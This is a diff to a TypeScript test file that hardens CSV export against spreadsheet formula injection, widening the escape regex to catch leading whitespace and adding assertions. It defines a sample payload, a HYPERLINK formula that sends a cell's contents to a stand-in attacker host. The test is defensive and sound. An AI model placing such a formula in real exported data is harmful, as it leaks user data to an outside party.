@@ -51,7 +51,7 @@ function parseCsv(text: string): string[][] {
   return rows;
 }
 
-const FORMULA = /^[=+\-@\t\r]/;
+const FORMULA = /^[\t\r]|^\s*[=+\-@]/;
 
 // Payloads a pupil (or anyone who can set a window title or a login name) controls.
 const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click for help")';
@@ -72,6 +72,8 @@ describe('CSV cells (pure)', () => {
     expect(csvCell('\rx')).toBe(`"'\rx"`);
     expect(csvCell('say "hi", then go')).toBe('"say ""hi"", then go"');
     expect(csvCell('two\nlines')).toBe('"two\nlines"');
+    expect(csvCell(' =1+1')).toBe("' =1+1");
+    expect(csvCell('\n@x')).toBe(`"'\n@x"`);
     expect(csvCell('plain')).toBe('plain');
     expect(csvCell('a = b')).toBe('a = b');
     expect(toCsv(['a', 'b'], [['1', '=2']])).toBe("a,b\r\n1,'=2\r\n");
